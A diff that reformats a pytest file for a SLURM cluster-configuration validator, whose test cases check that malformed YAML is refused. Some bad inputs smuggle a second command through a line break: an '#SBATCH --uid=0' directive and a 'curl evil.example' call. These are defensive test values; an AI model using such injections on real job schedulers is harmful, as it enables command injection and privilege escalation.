@@ -16,7 +16,11 @@ HEAD = "version: 1\ntargets:\n"
 BAD = {
     "nothing": ("", 0, "must be a mapping"),
     "no targets": ("version: 1\ntargets: []\n", 2, "length >= 1"),
-    "unknown key": (HEAD + "  - {name: a, partion: x}\n", 3, "unknown key 'partion'; did you mean 'partition'?"),
+    "unknown key": (
+        HEAD + "  - {name: a, partion: x}\n",
+        3,
+        "unknown key 'partion'; did you mean 'partition'?",
+    ),
     "unknown key of python": (
         HEAD + "  - name: a\n    python:\n      module: [cuda]\n",
         5,
@@ -49,9 +53,17 @@ BAD = {
         2,
         "a line break in its name",
     ),
-    "an option with a blank": (HEAD + "  - {name: a, options: {a b: 1}}\n", 3, "'a b' is no option of sbatch"),
+    "an option with a blank": (
+        HEAD + "  - {name: a, options: {a b: 1}}\n",
+        3,
+        "'a b' is no option of sbatch",
+    ),
     **{
-        f"a control character in {key}": (HEAD + f"  - name: a\n    {key}: {value}\n", 4, f"{key} holds a line break")
+        f"a control character in {key}": (
+            HEAD + f"  - name: a\n    {key}: {value}\n",
+            4,
+            f"{key} holds a line break",
+        )
         for key, value in {
             "constraint": '"a100\\n#SBATCH --uid=0"',
             "partition": '"p\\ncurl evil.example"',
@@ -66,18 +78,28 @@ BAD = {
         4,
         "python holds a line break",
     ),
-    "a Python with an escape": (HEAD + '  - name: a\n    python: {venv: "\\e[31m"}\n', 4, "python holds a line break"),
+    "a Python with an escape": (
+        HEAD + '  - name: a\n    python: {venv: "\\e[31m"}\n',
+        4,
+        "python holds a line break",
+    ),
     "queues on two nodes": (
         HEAD + "  - name: a\n    side_by_side: true\n    nodes: 2\n",
         5,
         "side_by_side is for one node",
     ),
-    "a partition here": (HEAD + "  - {name: a, executor: local, partition: x}\n", 3, "a local target has no partition"),
+    "a partition here": (
+        HEAD + "  - {name: a, executor: local, partition: x}\n",
+        3,
+        "a local target has no partition",
+    ),
 }
 
 
 @pytest.mark.parametrize("what", BAD)
-def test_a_bad_cluster_file_is_refused_in_one_line_with_its_place(what: str, tmp_path: Path) -> None:
+def test_a_bad_cluster_file_is_refused_in_one_line_with_its_place(
+    what: str, tmp_path: Path
+) -> None:
     text, line, message = BAD[what]
     path = tmp_path / "cluster.yaml"
     path.write_text(text)
@@ -92,7 +114,8 @@ def test_targets_are_chosen_by_name_and_a_wrong_one_is_answered_with_the_nearest
     write: Callable[[str, str], Path], tmp_path: Path
 ) -> None:
     cluster = read_cluster(
-        write("cluster.yaml", "version: 1\njobs: ../jobs\ntargets: [{name: h100}, {name: a100}]\n"), tmp_path
+        write("cluster.yaml", "version: 1\njobs: ../jobs\ntargets: [{name: h100}, {name: a100}]\n"),
+        tmp_path,
     )
     assert [target.name for target in cluster.choose(())] == ["h100", "a100"]
     assert [target.name for target in cluster.choose(("a100",))] == ["a100"]
@@ -111,4 +134,8 @@ def test_the_example_of_the_guide_is_valid(tmp_path: Path) -> None:
     end = next(number for number, line in enumerate(lines) if line and not line.startswith("    "))
     path = tmp_path / "cluster.yaml"
     path.write_text("\n".join(line.removeprefix("    ") for line in lines[:end]))
-    assert [target.name for target in read_cluster(path, tmp_path).targets] == ["v100-x1", "a100-x4", "h100-x8"]
+    assert [target.name for target in read_cluster(path, tmp_path).targets] == [
+        "v100-x1",
+        "a100-x4",
+        "h100-x8",
+    ]
